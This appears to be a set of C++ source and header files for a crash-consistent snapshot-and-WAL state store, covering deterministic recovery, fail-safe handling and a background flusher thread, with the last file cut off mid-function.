  out.state.next_session_id = get_u32(bytes.data() + 28);
  out.state.epoch_id = get_u64(bytes.data() + 32);
  out.state.epoch_digest = get_u64(bytes.data() + 40);
  out.state.sketch_digest = get_u64(bytes.data() + 48);
  out.state.sketch_samples = get_u64(bytes.data() + 56);
  const std::size_t expect = kSnapshotHeadSize +
                             static_cast<std::size_t>(count) * kSnapshotSessionSize + 4;
  if (bytes.size() != expect) return "snapshot_malformed";
  const std::uint8_t* p = bytes.data() + kSnapshotHeadSize;
  for (std::uint32_t i = 0; i < count; ++i, p += kSnapshotSessionSize) {
    PersistedSession s;
    s.id = get_u32(p);
    s.ip = get_u32(p + 4);
    s.port = get_u16(p + 8);
    s.started = p[10] != 0;
    s.estop = p[11] != 0;
    s.newest = get_u32(p + 12);
    s.mask = get_u64(p + 16);
    if (out.state.sessions.count(s.id) != 0) return "snapshot_malformed";
    out.state.sessions[s.id] = s;
  }
  // The snapshot's own digest must describe the state it encodes — a CRC
  // collision or a writer bug both land here.
  if (out.state.digest() != out.digest) return "snapshot_digest";
  return "";
}

RecoveryResult fail_safe(std::string reason) {
  RecoveryResult r;
  r.outcome = RecoveryOutcome::kFailSafe;
  r.reason = std::move(reason);
  return r;
}

}  // namespace

RecoveryResult recover_state(const std::string& dir, const RecoverOptions& options) {
  RecoveryResult result;

  // --- snapshot ------------------------------------------------------------
  std::vector<std::uint8_t> snap_bytes;
  bool snap_exists = false;
  if (!read_file(StateStore::snapshot_path(dir), snap_bytes, snap_exists)) {
    return fail_safe("io_snapshot_read");
  }
  SnapshotParse snap;
  if (snap_exists) {
    const std::string err = parse_snapshot(snap_bytes, snap);
    if (!err.empty()) return fail_safe(err);
    result.snapshot_loaded = true;
    result.snapshot_lsn = snap.lsn;
    result.state = snap.state;
    result.last_lsn = snap.lsn;
  }
  if (options.collect_prefix_digests && result.snapshot_loaded) {
    result.prefix_digests.push_back(snap.digest);
  }

  // --- WAL -----------------------------------------------------------------
  std::vector<std::uint8_t> wal_bytes;
  bool wal_exists = false;
  if (!read_file(StateStore::wal_path(dir), wal_bytes, wal_exists)) {
    return fail_safe("io_wal_read");
  }
  if (!wal_exists || wal_bytes.empty()) {
    result.outcome = result.snapshot_loaded ? RecoveryOutcome::kRestored : RecoveryOutcome::kFresh;
    result.digest = result.state.digest();
    if (options.collect_prefix_digests && !result.snapshot_loaded) {
      result.prefix_digests.push_back(result.digest);
    }
    return result;
  }

  // Collect the valid record chain first (first record's LSN accepted
  // as-is: after a snapshot rotation the WAL starts past 1; strict +1
  // sequencing applies from there).
  std::vector<RecordView> records;
  const ScanResult scanned =
      scan_records(std::span<const std::uint8_t>{wal_bytes}, 0, 0,
                   [&records](const RecordView& rec) { records.push_back(rec); });
  result.wal_tail = scanned.tail;
  result.wal_valid_bytes = scanned.valid_bytes;
  if (scanned.tail == TailState::kCorruptInterior) {
    return fail_safe("wal_interior_corrupt");
  }

  const std::uint64_t base_lsn = result.snapshot_loaded ? snap.lsn : 0;
  PersistentState state = result.state;
  for (const RecordView& rec : records) {
    if (rec.lsn <= base_lsn) {
      // Pre-snapshot history (crash between snapshot rename and WAL
      // truncate): already folded into the snapshot, CRC-verified only.
      ++result.wal_records_skipped;
      continue;
    }
    if (result.wal_records_applied == 0 && rec.lsn != base_lsn + 1) {
      // The WAL's retained records start beyond the snapshot's horizon —
      // a gap no crash can produce.
      return fail_safe("wal_orphan_head");
    }
    if (rec.payload.size() < 8) return fail_safe("wal_malformed_record");
    const std::span<const std::uint8_t> body = rec.payload.first(rec.payload.size() - 8);
    const std::uint64_t recorded_digest = get_u64(rec.payload.data() + body.size());
    const Status applied = StateStore::apply_record(state, static_cast<WalKind>(rec.kind), body);
    if (!applied.ok()) return fail_safe("wal_malformed_record");
    if (state.digest() != recorded_digest) return fail_safe("wal_digest_mismatch");
    ++result.wal_records_applied;
    result.last_lsn = rec.lsn;
    if (options.collect_prefix_digests) result.prefix_digests.push_back(recorded_digest);
  }

  result.state = std::move(state);
  result.digest = result.state.digest();
  if (!result.snapshot_loaded && result.wal_records_applied == 0 &&
      result.wal_records_skipped == 0) {
    // No snapshot and no complete record: a crash during the very first
    // append (torn tail) or an empty/padded file — both recover as a
    // fresh store.  (Interior corruption already failed safe above.)
    result.outcome = RecoveryOutcome::kFresh;
    if (options.collect_prefix_digests) result.prefix_digests.push_back(result.digest);
    return result;
  }
  result.outcome = RecoveryOutcome::kRestored;
  return result;
}

}  // namespace rg::persist
