// Deterministic recovery for the rg.state/1 snapshot+WAL store: the
// restore-exact-or-fail-safe half of the crash-consistent state plane.
//
// recover_state() inspects a state directory and produces exactly one of
// three outcomes:
//
//   kFresh    — no snapshot, no WAL: a first boot.
//   kRestored — the newest valid snapshot plus every WAL record with
//               lsn > snapshot.lsn replayed, with each record's carried
//               state digest re-verified against the rebuilt state.  A
//               torn WAL tail (crash artifact) truncates to the last
//               durable record; the caller (TeleopGateway) then advances
//               every restored anti-replay window by the rejoin guard so
//               even replays of the lost unsynced tail are rejected.
//   kFailSafe — the artifacts are damaged in a way that is *not* a crash
//               artifact (corrupt snapshot, interior WAL corruption, LSN
//               gap, digest mismatch, malformed record body).  The caller
//               must latch E-STOP and emit a `recovery_failed` safety
//               event; the damaged files are left untouched as evidence.
//
// The distinction is mechanical, not heuristic: persist/record.hpp's
// scanner proves whether bytes beyond the valid prefix contain frames
// that advance the LSN (interior damage) or not (torn tail), and the
// per-record digests prove the replayed state is byte-for-byte the state
// that was persisted.  tools/rg_faultinject + scripts/fault_matrix.sh
// drive a seeded corruption matrix over exactly this contract.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "common/error.hpp"
#include "persist/statestore.hpp"

namespace rg::persist {

enum class RecoveryOutcome : std::uint8_t { kFresh = 0, kRestored = 1, kFailSafe = 2 };

[[nodiscard]] constexpr std::string_view to_string(RecoveryOutcome o) noexcept {
  switch (o) {
    case RecoveryOutcome::kFresh: return "fresh";
    case RecoveryOutcome::kRestored: return "restored";
    case RecoveryOutcome::kFailSafe: return "fail_safe";
  }
  return "unknown";
}

struct RecoverOptions {
  /// Also collect the state digest after the snapshot and after every
  /// applied WAL record (the fault-injection harness asserts a corrupted
  /// store restores to *some* durable prefix — digest must be in this
  /// set — or fails safe).
  bool collect_prefix_digests = false;
};

struct RecoveryResult {
  RecoveryOutcome outcome = RecoveryOutcome::kFresh;
  /// Machine-readable failure reason ("" unless kFailSafe):
  /// snapshot_truncated, snapshot_crc, snapshot_magic, snapshot_digest,
  /// snapshot_malformed, wal_interior_corrupt, wal_lsn_gap,
  /// wal_digest_mismatch, wal_malformed_record, wal_orphan_head.
  std::string reason;
  PersistentState state{};
  std::uint64_t last_lsn = 0;      ///< LSN the writer continues after
  std::uint64_t digest = 0;        ///< state.digest() of the restored state
  std::uint64_t wal_valid_bytes = 0;  ///< valid WAL prefix (writer truncates here)
  std::uint64_t wal_records_applied = 0;
  std::uint64_t wal_records_skipped = 0;  ///< records already covered by the snapshot
  bool snapshot_loaded = false;
  std::uint64_t snapshot_lsn = 0;
  TailState wal_tail = TailState::kClean;
  std::vector<std::uint64_t> prefix_digests;  ///< see RecoverOptions
};

/// Inspect `dir` (StateStore::kSnapshotFile / kWalFile) and rebuild the
/// persisted state.  Never modifies any file.  Errors are reported as
/// kFailSafe in the result, not as a Status — an unreadable directory is
/// an operational error and surfaces as kFailSafe with reason
/// "io_<detail>".
[[nodiscard]] RecoveryResult recover_state(const std::string& dir,
                                           const RecoverOptions& options = {});

}  // namespace rg::persist
