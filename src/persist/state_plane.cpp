#include "persist/state_plane.hpp"

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstring>

#include <sys/stat.h>

namespace rg::persist {

namespace {

JournalConfig journal_config(const StatePlaneConfig& config) {
  JournalConfig jc;
  jc.path = config.dir + "/journal.rgjrnl";
  jc.max_bytes = config.journal_max_bytes;
  return jc;
}

}  // namespace

StatePlane::StatePlane(const StatePlaneConfig& config)
    : config_(config), journal_(journal_config(config)),
      ring_(config.ring_capacity == 0 ? 1 : config.ring_capacity) {
  drain_buf_.resize(512);
  window_scratch_.reserve(256);
  auto& reg = obs::Registry::global();
  ops_counter_ = reg.counter("rg.persist.ops");
  drop_counter_ = reg.counter("rg.persist.dropped");
  flush_counter_ = reg.counter("rg.persist.flushes");
  wal_record_counter_ = reg.counter("rg.persist.wal_records");
  snapshot_counter_ = reg.counter("rg.persist.snapshots");
  write_error_counter_ = reg.counter("rg.persist.write_errors");
}

Result<std::unique_ptr<StatePlane>> StatePlane::open(const StatePlaneConfig& config) {
  require(!config.dir.empty(), "StatePlane: dir must not be empty");
  if (::mkdir(config.dir.c_str(), 0755) != 0 && errno != EEXIST) {
    return Error(ErrorCode::kNotReady,
                 "StatePlane: cannot create " + config.dir + ": " + std::strerror(errno));
  }

  std::unique_ptr<StatePlane> plane(new StatePlane(config));
  plane->recovery_ = recover_state(config.dir);

  // The journal recovers independently (torn tails truncate; corruption
  // never blocks the state decision — it is observational).
  const Status journal_open = plane->journal_.open();
  if (!journal_open.ok() &&
      journal_open.error().code() == ErrorCode::kMalformedPacket) {
    // A foreign file where the journal should be is treated like any
    // other unverifiable artifact: fail safe, keep the evidence.
    if (plane->recovery_.outcome != RecoveryOutcome::kFailSafe) {
      plane->recovery_.outcome = RecoveryOutcome::kFailSafe;
      plane->recovery_.reason = "journal_foreign_magic";
    }
  } else if (!journal_open.ok()) {
    return journal_open.error();
  }

  // Record the recovery decision itself in the journal (works even in
  // fail-safe mode: the journal recovers independently of the store).
  {
    std::string marker = "recovery outcome=";
    marker += to_string(plane->recovery_.outcome);
    if (!plane->recovery_.reason.empty()) marker += " reason=" + plane->recovery_.reason;
    (void)plane->journal_.append(JournalKind::kMarker, marker);
  }

  if (plane->recovery_.outcome != RecoveryOutcome::kFailSafe) {
    auto store = std::make_unique<StateStore>(config.dir);
    const Status opened = store->open_writer(plane->recovery_.state,
                                             plane->recovery_.last_lsn + 1,
                                             plane->recovery_.wal_valid_bytes);
    if (!opened.ok()) return opened.error();
    plane->store_ = std::move(store);
  }

  if (config.start_flusher) {
    plane->flusher_ = std::thread([p = plane.get()] { p->flusher_loop(); });
  }
  return plane;
}

StatePlane::~StatePlane() { stop(); }

RG_REALTIME RG_THREAD(pump) bool StatePlane::submit(const StateOp& op) noexcept {
  if (store_ == nullptr) {
    // Fail-safe plane: state mutations are refused, not queued.
    ops_dropped_.fetch_add(1, std::memory_order_relaxed);
    return false;
  }
  if (!ring_.try_push(op)) {
    ops_dropped_.fetch_add(1, std::memory_order_relaxed);
    return false;
  }
  ops_submitted_.fetch_add(1, std::memory_order_relaxed);
  return true;
}

RG_THREAD(any) void StatePlane::flush_now() {
  const MutexLock lock(store_mutex_);
  flush_locked();
}

RG_THREAD(any) void StatePlane::flush_locked() {
  auto& reg = obs::Registry::global();

  // 1. Journal: move RT-ring entries into the mapping, then msync.
  (void)journal_.drain_pending();
  if (!journal_.sync().ok()) reg.add(write_error_counter_);

  // 2. State ops.  Window notes are coalesced per session (the window
  // only ever advances, so the latest note subsumes the earlier ones);
  // structural ops keep their order relative to their session's window.
  if (store_ != nullptr) {
    const std::uint64_t records_before = store_->stats().wal_records;
    const std::uint64_t errors_before = store_->stats().write_errors;
    window_scratch_.clear();
    const auto flush_window_for = [this](std::uint32_t session) {
      for (std::size_t i = 0; i < window_scratch_.size(); ++i) {
        if (window_scratch_[i].session == session) {
          const StateOp& w = window_scratch_[i];
          (void)store_->note_window(w.session, w.newest, w.mask, w.flag != 0);
          window_scratch_.erase(window_scratch_.begin() + static_cast<std::ptrdiff_t>(i));
          return;
        }
      }
    };
    for (;;) {
      const std::size_t n = ring_.pop_batch(drain_buf_.data(), drain_buf_.size());
      if (n == 0) break;
      for (std::size_t i = 0; i < n; ++i) {
        const StateOp& op = drain_buf_[i];
        ++ops_applied_;
        switch (op.kind) {
          case StateOp::Kind::kWindow: {
            bool replaced = false;
            for (StateOp& w : window_scratch_) {
              if (w.session == op.session) {
                w = op;
                replaced = true;
                break;
              }
            }
            if (!replaced) window_scratch_.push_back(op);
            break;
          }
          case StateOp::Kind::kOpen:
            flush_window_for(op.session);
            (void)store_->note_open(op.session, op.ip, op.port);
            break;
          case StateOp::Kind::kClose:
            flush_window_for(op.session);
            (void)store_->note_close(op.session);
            break;
          case StateOp::Kind::kEstop:
            flush_window_for(op.session);
            (void)store_->note_estop(op.session, op.flag != 0);
            break;
          case StateOp::Kind::kEpoch:
            if (store_->state().epoch_id != op.a || store_->state().epoch_digest != op.b) {
              (void)store_->note_epoch(op.a, op.b);
            }
            break;
          case StateOp::Kind::kSketch:
            if (store_->state().sketch_digest != op.a || store_->state().sketch_samples != op.b) {
              (void)store_->note_sketch(op.a, op.b);
            }
            break;
        }
      }
    }
    // Remaining coalesced windows, ascending session id for determinism.
    std::sort(window_scratch_.begin(), window_scratch_.end(),
              [](const StateOp& a, const StateOp& b) { return a.session < b.session; });
    for (const StateOp& w : window_scratch_) {
      const auto it = store_->state().sessions.find(w.session);
      if (it != store_->state().sessions.end() &&
          (it->second.newest != w.newest || it->second.mask != w.mask ||
           it->second.started != (w.flag != 0))) {
        (void)store_->note_window(w.session, w.newest, w.mask, w.flag != 0);
      }
    }
    window_scratch_.clear();

    // 3. Group commit + snapshot rotation.
    if (!store_->sync().ok()) reg.add(write_error_counter_);
    if (store_->stats().wal_bytes >= config_.snapshot_wal_bytes) {
      if (store_->write_snapshot().ok()) {
        reg.add(snapshot_counter_);
      } else {
        reg.add(write_error_counter_);
      }
    }
    const StateStoreStats& after = store_->stats();
    if (after.wal_records > records_before) {
      reg.add(wal_record_counter_, after.wal_records - records_before);
    }
    if (after.write_errors > errors_before) {
      reg.add(write_error_counter_, after.write_errors - errors_before);
    }
  }

  ++flushes_;
  reg.add(flush_counter_);

  // Mirror the producer-side counters into the registry (delta since the
  // last flush; the atomics are the source of truth).
  const std::uint64_t subs = ops_submitted_.load(std::memory_order_relaxed);
  const std::uint64_t drops = ops_dropped_.load(std::memory_order_relaxed);
  if (subs > ops_reported_) {
    reg.add(ops_counter_, subs - ops_reported_);
    ops_reported_ = subs;
  }
  if (drops > drops_reported_) {
    reg.add(drop_counter_, drops - drops_reported_);
    drops_reported_ = drops;
  }
}

RG_THREAD(flusher) void StatePlane::flusher_loop() {
  std::unique_lock<std::mutex> stop_lock(stop_mutex_);
  while (!stop_requested_) {
    stop_cv_.wait_for(stop_lock, std::chrono::milliseconds(config_.flush_period_ms),
                      [this] { return stop_requested_; });
    stop_lock.unlock();
    {
      const MutexLock lock(store_mutex_);
      flush_locked();
    }
    stop_lock.lock();
  }
}

RG_THREAD(any) void StatePlane::stop() {
  {
    const std::lock_guard<std::mutex> lock(stop_mutex_);
    if (stopped_) return;
    stop_requested_ = true;
    stopped_ = true;
  }
  stop_cv_.notify_all();
  if (flusher_.joinable()) flusher_.join();
  flush_now();
}

RG_THREAD(any) PersistentState StatePlane::state() const {
  const MutexLock lock(store_mutex_);
  if (store_ == nullptr) return recovery_.state;
  return store_->state();
}

RG_THREAD(any) std::uint64_t StatePlane::state_digest() const {
  const MutexLock lock(store_mutex_);
  if (store_ == nullptr) return recovery_.state.digest();
  return store_->state().digest();
}

RG_THREAD(any) StatePlaneStats StatePlane::stats() const {
  const MutexLock lock(store_mutex_);
  StatePlaneStats out;
  out.ops_submitted = ops_submitted_.load(std::memory_order_relaxed);
  out.ops_dropped = ops_dropped_.load(std::memory_order_relaxed);
  out.ops_applied = ops_applied_;
  out.flushes = flushes_;
  if (store_ != nullptr) out.store = store_->stats();
  out.journal = journal_.stats();
  return out;
}

}  // namespace rg::persist
