// StatePlane: the process-facing face of the crash-consistent state
// plane — one object owning the safety journal, the snapshot+WAL state
// store, the recovery decision, and the background flusher thread that
// is the only place persistence ever touches a disk.
//
//   tick path (gateway pump)        flusher thread (this class)
//   ----------------------------    -------------------------------------
//   submit(StateOp)  --SPSC ring--> drain, coalesce window notes,
//   journal().try_append_rt() ----> append WAL records + journal frames,
//                                   fdatasync / msync (group commit),
//                                   rotate snapshot when the WAL grows
//
// submit() is RG_REALTIME: one lock-free try_push, no alloc, no IO — a
// full ring drops the op and counts it (the mirror then catches up at
// the next window note; window state is monotone so coalescing and
// drops only ever *under*-report, which the rejoin guard absorbs).
//
// open() runs recovery (persist/recovery.hpp) before any writer is
// created.  On kFailSafe the store writer stays closed — the damaged
// artifacts are evidence, and the gateway latches E-STOP instead of
// accepting traffic on unverifiable state.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <memory>
#include <mutex>
#include <thread>

#include "common/error.hpp"
#include "common/realtime.hpp"
#include "common/thread_safety.hpp"
#include "common/spsc_ring.hpp"
#include "obs/metrics.hpp"
#include "persist/journal.hpp"
#include "persist/recovery.hpp"
#include "persist/statestore.hpp"

namespace rg::persist {

struct StatePlaneConfig {
  std::string dir;
  /// Group-commit cadence of the flusher thread (WAL fdatasync + journal
  /// msync).  At most one flush period of accepted-but-unsynced window
  /// advance can be lost to a crash — the rejoin guard must cover it.
  std::uint64_t flush_period_ms = 25;
  /// StateOp ring capacity (single producer: the gateway pump thread).
  std::size_t ring_capacity = 16384;
  /// Snapshot rotation threshold: a WAL larger than this is folded into
  /// a fresh snapshot at the next flush.
  std::uint64_t snapshot_wal_bytes = 1ull << 20;
  /// Journal preallocation ceiling (sparse).
  std::uint64_t journal_max_bytes = 64ull << 20;
  /// Spawn the flusher thread (tests drive flush_now() by hand instead).
  bool start_flusher = true;
};

/// One tick-path mutation, POD-sized for the SPSC ring.
struct StateOp {
  enum class Kind : std::uint8_t { kOpen, kClose, kWindow, kEstop, kEpoch, kSketch };
  Kind kind = Kind::kWindow;
  std::uint8_t flag = 0;       ///< started / latched
  std::uint16_t port = 0;
  std::uint32_t session = 0;
  std::uint32_t ip = 0;
  std::uint32_t newest = 0;
  std::uint64_t mask = 0;
  std::uint64_t a = 0;         ///< epoch id / sketch digest
  std::uint64_t b = 0;         ///< thresholds digest / sketch samples
};

struct StatePlaneStats {
  std::uint64_t ops_submitted = 0;
  std::uint64_t ops_dropped = 0;    ///< ring full (absorbed by the rejoin guard)
  std::uint64_t ops_applied = 0;
  std::uint64_t flushes = 0;
  StateStoreStats store{};
  JournalStats journal{};
};

class StatePlane {
 public:
  /// Recover `config.dir` (created if missing) and open the journal; on
  /// a clean or crash-consistent state also open the WAL writer.  Errors
  /// only for operational failures (unwritable directory) — a corrupt
  /// store is NOT an error: it returns a plane whose recovery() says
  /// kFailSafe and which accepts no state mutations.
  [[nodiscard]] static Result<std::unique_ptr<StatePlane>> open(const StatePlaneConfig& config);

  ~StatePlane();

  StatePlane(const StatePlane&) = delete;
  StatePlane& operator=(const StatePlane&) = delete;

  [[nodiscard]] const RecoveryResult& recovery() const noexcept { return recovery_; }
  [[nodiscard]] bool fail_safe() const noexcept {
    return recovery_.outcome == RecoveryOutcome::kFailSafe;
  }

  /// RG_REALTIME, single producer (the gateway pump thread).  False =
  /// dropped (ring full, or the plane is fail-safe and takes no writes).
  RG_REALTIME RG_THREAD(pump) bool submit(const StateOp& op) noexcept;

  /// Drain + write + sync synchronously on the caller (shutdown, tests,
  /// and rg_faultinject's deterministic crash-point driver).
  RG_THREAD(any) void flush_now();

  /// Stop the flusher thread after a final flush.  Idempotent.
  RG_THREAD(any) void stop();

  [[nodiscard]] Journal& journal() noexcept { return journal_; }

  /// Copy of the flusher's mirror state (what would be recovered if the
  /// process died after the last flush).
  [[nodiscard]] RG_THREAD(any) PersistentState state() const;
  [[nodiscard]] RG_THREAD(any) std::uint64_t state_digest() const;
  [[nodiscard]] RG_THREAD(any) StatePlaneStats stats() const;
  [[nodiscard]] const std::string& dir() const noexcept { return config_.dir; }

 private:
  explicit StatePlane(const StatePlaneConfig& config);

  RG_THREAD(flusher) void flusher_loop();
  RG_THREAD(any) void flush_locked() RG_REQUIRES(store_mutex_);

  StatePlaneConfig config_;
  RecoveryResult recovery_;
  Journal journal_;
  SpscRing<StateOp> ring_;
  std::atomic<std::uint64_t> ops_submitted_{0};
  std::atomic<std::uint64_t> ops_dropped_{0};

  /// Guards the store/mirror (flusher thread vs flush_now/state()).
  /// The store_ pointer itself is written once in open() before the
  /// flusher starts; submit() reads only the pointer (fail-safe check),
  /// so the pointee — not the pointer — is the guarded capability.
  mutable Mutex store_mutex_;
  std::unique_ptr<StateStore> store_ RG_PT_GUARDED_BY(store_mutex_);
  std::uint64_t ops_applied_ RG_GUARDED_BY(store_mutex_) = 0;
  std::uint64_t flushes_ RG_GUARDED_BY(store_mutex_) = 0;
  /// Counters already mirrored to the registry.
  std::uint64_t ops_reported_ RG_GUARDED_BY(store_mutex_) = 0;
  std::uint64_t drops_reported_ RG_GUARDED_BY(store_mutex_) = 0;
  std::vector<StateOp> drain_buf_ RG_GUARDED_BY(store_mutex_);
  /// Per-flush window coalescing scratch (latest window note per session).
  std::vector<StateOp> window_scratch_ RG_GUARDED_BY(store_mutex_);

  std::mutex stop_mutex_;
  std::condition_variable stop_cv_;
  bool stop_requested_ = false;
  bool stopped_ = false;
  std::thread flusher_;

  obs::MetricId ops_counter_;
  obs::MetricId drop_counter_;
  obs::MetricId flush_counter_;
  obs::MetricId wal_record_counter_;
  obs::MetricId snapshot_counter_;
  obs::MetricId write_error_counter_;
};

}  // namespace rg::persist
