#include "persist/statestore.hpp"

#include <algorithm>
#include <cerrno>
#include <cstring>

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "persist/crc32c.hpp"

namespace rg::persist {

namespace {

void put_u16(std::vector<std::uint8_t>& out, std::uint16_t v) {
  const std::size_t at = out.size();
  out.resize(at + 2);
  std::memcpy(out.data() + at, &v, 2);
}

void put_u32(std::vector<std::uint8_t>& out, std::uint32_t v) {
  const std::size_t at = out.size();
  out.resize(at + 4);
  std::memcpy(out.data() + at, &v, 4);
}

void put_u64(std::vector<std::uint8_t>& out, std::uint64_t v) {
  const std::size_t at = out.size();
  out.resize(at + 8);
  std::memcpy(out.data() + at, &v, 8);
}

std::uint16_t get_u16(const std::uint8_t* p) noexcept {
  std::uint16_t v;
  std::memcpy(&v, p, 2);
  return v;
}

std::uint32_t get_u32(const std::uint8_t* p) noexcept {
  std::uint32_t v;
  std::memcpy(&v, p, 4);
  return v;
}

std::uint64_t get_u64(const std::uint8_t* p) noexcept {
  std::uint64_t v;
  std::memcpy(&v, p, 8);
  return v;
}

/// Write all of `buf` to `fd`, surviving short writes and EINTR.
bool write_all(int fd, const std::uint8_t* buf, std::size_t len) noexcept {
  std::size_t done = 0;
  while (done < len) {
    const ssize_t n = ::write(fd, buf + done, len - done);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    if (n == 0) return false;
    done += static_cast<std::size_t>(n);
  }
  return true;
}

}  // namespace

std::uint64_t fnv1a64(const void* data, std::size_t len, std::uint64_t seed) noexcept {
  const auto* p = static_cast<const unsigned char*>(data);
  std::uint64_t h = seed;
  for (std::size_t i = 0; i < len; ++i) {
    h ^= p[i];
    h *= 1099511628211ull;
  }
  return h;
}

std::uint64_t PersistentState::digest() const noexcept {
  std::uint64_t h = fnv1a64("rg.state/1", 10);
  const auto fold_u64 = [&h](std::uint64_t v) { h = fnv1a64(&v, 8, h); };
  fold_u64(next_session_id);
  fold_u64(epoch_id);
  fold_u64(epoch_digest);
  fold_u64(sketch_digest);
  fold_u64(sketch_samples);
  fold_u64(sessions.size());
  for (const auto& [id, s] : sessions) {
    fold_u64(id);
    fold_u64((static_cast<std::uint64_t>(s.ip) << 16) | s.port);
    fold_u64((static_cast<std::uint64_t>(s.started) << 1) | static_cast<std::uint64_t>(s.estop));
    fold_u64(s.newest);
    fold_u64(s.mask);
  }
  return h;
}

StateStore::StateStore(std::string dir) : dir_(std::move(dir)) {
  require(!dir_.empty(), "StateStore: dir must not be empty");
  encode_buf_.reserve(4096);
}

StateStore::~StateStore() {
  if (wal_fd_ >= 0) {
    (void)::fdatasync(wal_fd_);
    (void)::close(wal_fd_);
  }
}

std::string StateStore::snapshot_path(const std::string& dir) {
  return dir + "/" + std::string(kSnapshotFile);
}

std::string StateStore::wal_path(const std::string& dir) {
  return dir + "/" + std::string(kWalFile);
}

Status StateStore::open_writer(const PersistentState& state, std::uint64_t continue_lsn,
                               std::uint64_t valid_bytes) {
  require(wal_fd_ < 0, "StateStore: open_writer called twice");
  state_ = state;
  next_lsn_ = continue_lsn == 0 ? 1 : continue_lsn;
  const std::string path = wal_path(dir_);
  wal_fd_ = ::open(path.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0644);
  if (wal_fd_ < 0) {
    return Error(ErrorCode::kNotReady,
                 "StateStore: cannot open " + path + ": " + std::strerror(errno));
  }
  struct stat st{};
  if (::fstat(wal_fd_, &st) != 0 || st.st_size < 0) {
    return Error(ErrorCode::kNotReady, "StateStore: fstat failed on " + path);
  }
  // Drop anything past the valid prefix (torn tail / benign garbage) so
  // new appends extend a clean record chain.
  if (static_cast<std::uint64_t>(st.st_size) > valid_bytes &&
      ::ftruncate(wal_fd_, static_cast<off_t>(valid_bytes)) != 0) {
    return Error(ErrorCode::kInternal, "StateStore: cannot truncate WAL tail of " + path);
  }
  const std::uint64_t size =
      std::min(static_cast<std::uint64_t>(st.st_size), valid_bytes);
  if (::lseek(wal_fd_, static_cast<off_t>(size), SEEK_SET) < 0) {
    return Error(ErrorCode::kInternal, "StateStore: lseek failed on " + path);
  }
  stats_.wal_bytes = size;
  return Status::success();
}

Status StateStore::apply_record(PersistentState& state, WalKind kind,
                                std::span<const std::uint8_t> body) {
  const auto need = [&](std::size_t n) { return body.size() == n; };
  switch (kind) {
    case WalKind::kSessionOpen: {
      if (!need(10)) break;
      PersistedSession s;
      s.id = get_u32(body.data());
      s.ip = get_u32(body.data() + 4);
      s.port = get_u16(body.data() + 8);
      state.sessions[s.id] = s;
      if (s.id + 1 > state.next_session_id) state.next_session_id = s.id + 1;
      return Status::success();
    }
    case WalKind::kSessionClose: {
      if (!need(4)) break;
      state.sessions.erase(get_u32(body.data()));
      return Status::success();
    }
    case WalKind::kWindow: {
      if (!need(17)) break;
      const std::uint32_t id = get_u32(body.data());
      auto it = state.sessions.find(id);
      if (it == state.sessions.end()) {
        // A window note for a session we never saw open means the record
        // stream is inconsistent — recovery treats this as corruption.
        return Error(ErrorCode::kMalformedPacket,
                     "StateStore: window record for unknown session " + std::to_string(id));
      }
      it->second.newest = get_u32(body.data() + 4);
      it->second.mask = get_u64(body.data() + 8);
      it->second.started = body[16] != 0;
      return Status::success();
    }
    case WalKind::kEstop: {
      if (!need(5)) break;
      const std::uint32_t id = get_u32(body.data());
      auto it = state.sessions.find(id);
      if (it == state.sessions.end()) {
        return Error(ErrorCode::kMalformedPacket,
                     "StateStore: estop record for unknown session " + std::to_string(id));
      }
      it->second.estop = body[4] != 0;
      return Status::success();
    }
    case WalKind::kEpoch: {
      if (!need(16)) break;
      state.epoch_id = get_u64(body.data());
      state.epoch_digest = get_u64(body.data() + 8);
      return Status::success();
    }
    case WalKind::kSketch: {
      if (!need(16)) break;
      state.sketch_digest = get_u64(body.data());
      state.sketch_samples = get_u64(body.data() + 8);
      return Status::success();
    }
  }
  return Error(ErrorCode::kMalformedPacket, "StateStore: malformed WAL record body");
}

Status StateStore::append_record(WalKind kind, std::span<const std::uint8_t> body) {
  if (wal_fd_ < 0) {
    ++stats_.write_errors;
    return Error(ErrorCode::kNotReady, "StateStore: writer not open");
  }
  // Apply first: the record carries the digest of the state *after* it.
  const Status applied = apply_record(state_, kind, body);
  if (!applied.ok()) {
    ++stats_.write_errors;
    return applied;
  }
  encode_buf_.clear();
  std::vector<std::uint8_t> payload;
  payload.reserve(body.size() + 8);
  payload.insert(payload.end(), body.begin(), body.end());
  put_u64(payload, state_.digest());
  (void)encode_record(encode_buf_, next_lsn_, static_cast<std::uint8_t>(kind),
                      std::span<const std::uint8_t>{payload});
  if (!write_all(wal_fd_, encode_buf_.data(), encode_buf_.size())) {
    ++stats_.write_errors;
    return Error(ErrorCode::kInternal,
                 "StateStore: short write to WAL: " + std::string(std::strerror(errno)));
  }
  ++next_lsn_;
  ++stats_.wal_records;
  stats_.wal_bytes += encode_buf_.size();
  return Status::success();
}

Status StateStore::note_open(std::uint32_t id, std::uint32_t ip, std::uint16_t port) {
  std::vector<std::uint8_t> body;
  put_u32(body, id);
  put_u32(body, ip);
  put_u16(body, port);
  return append_record(WalKind::kSessionOpen, body);
}

Status StateStore::note_close(std::uint32_t id) {
  std::vector<std::uint8_t> body;
  put_u32(body, id);
  return append_record(WalKind::kSessionClose, body);
}

Status StateStore::note_window(std::uint32_t id, std::uint32_t newest, std::uint64_t mask,
                               bool started) {
  std::vector<std::uint8_t> body;
  put_u32(body, id);
  put_u32(body, newest);
  put_u64(body, mask);
  body.push_back(started ? 1 : 0);
  return append_record(WalKind::kWindow, body);
}

Status StateStore::note_estop(std::uint32_t id, bool latched) {
  std::vector<std::uint8_t> body;
  put_u32(body, id);
  body.push_back(latched ? 1 : 0);
  return append_record(WalKind::kEstop, body);
}

Status StateStore::note_epoch(std::uint64_t epoch_id, std::uint64_t thresholds_digest) {
  std::vector<std::uint8_t> body;
  put_u64(body, epoch_id);
  put_u64(body, thresholds_digest);
  return append_record(WalKind::kEpoch, body);
}

Status StateStore::note_sketch(std::uint64_t digest, std::uint64_t samples) {
  std::vector<std::uint8_t> body;
  put_u64(body, digest);
  put_u64(body, samples);
  return append_record(WalKind::kSketch, body);
}

Status StateStore::sync() {
  if (wal_fd_ < 0) return Status::success();
  if (::fdatasync(wal_fd_) != 0) {
    ++stats_.write_errors;
    return Error(ErrorCode::kInternal,
                 "StateStore: fdatasync failed: " + std::string(std::strerror(errno)));
  }
  ++stats_.syncs;
